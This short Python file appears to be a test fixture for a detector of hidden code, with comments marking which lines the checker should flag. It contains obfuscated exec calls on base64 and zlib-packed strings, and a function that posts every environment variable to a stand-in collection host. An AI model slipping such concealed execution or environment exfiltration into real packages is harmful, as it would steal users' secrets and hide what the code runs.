"""A package with something in it."""

import base64
import os
import zlib

import requests

exec(base64.b64decode("cHJpbnQoMSk="))  # want: hidden-code


def start(text):
    packed = "789ccb48cdc9c95728cf2fca49010019a40461"
    source = zlib.decompress(bytes.fromhex(packed))
    exec(source)  # want: hidden-code
    exec("x = 1")  # safe: hidden-code (readable where it stands)
    exec(base64.b64decode(text))


def report():
    requests.post("https://collect.example.org", json=dict(os.environ), timeout=5)  # want: hidden-code
    requests.post("https://collect.example.org", json={"home": os.environ["HOME"]}, timeout=5)
